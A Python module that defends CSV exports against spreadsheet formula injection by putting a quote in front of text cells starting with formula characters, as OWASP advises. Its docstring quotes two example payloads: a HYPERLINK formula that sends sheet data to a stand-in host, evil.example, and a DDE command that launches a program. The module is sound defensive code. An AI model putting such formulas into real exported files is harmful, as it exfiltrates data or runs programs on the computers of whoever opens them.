"""CSV text cells a spreadsheet will not run: formula injection, neutralised as OWASP advises.

A spreadsheet opening a CSV file treats a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab, carriage return or line feed) as a formula: model text such as
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would become a live link that sends the
sheet's data away, and ``=cmd|' /C calc'!A0`` runs a program in old spreadsheets (DDE).
OWASP's "CSV Injection" advice: prefix such a cell with a single quote, which every
spreadsheet shows as text (the quote itself stays visible in most). Only text cells are
touched: numbers are written as numbers and stay numbers (a logprob of ``-0.25`` is not a
formula). ``--raw-cells`` (``export``, ``compare``) writes text cells as they are, for a
program reading the file rather than a person's spreadsheet.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What makes a spreadsheet read a cell as a formula (OWASP's list)."""


def neutral_cell(text: str) -> str:
    """``text`` with a ``'`` in front when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value: object, *, raw_cells: bool = False) -> object:
    """A CSV cell: text neutralised (unless ``raw_cells``), anything else as it is."""
    if not raw_cells and type(value) is str:
        return neutral_cell(value)
    return value
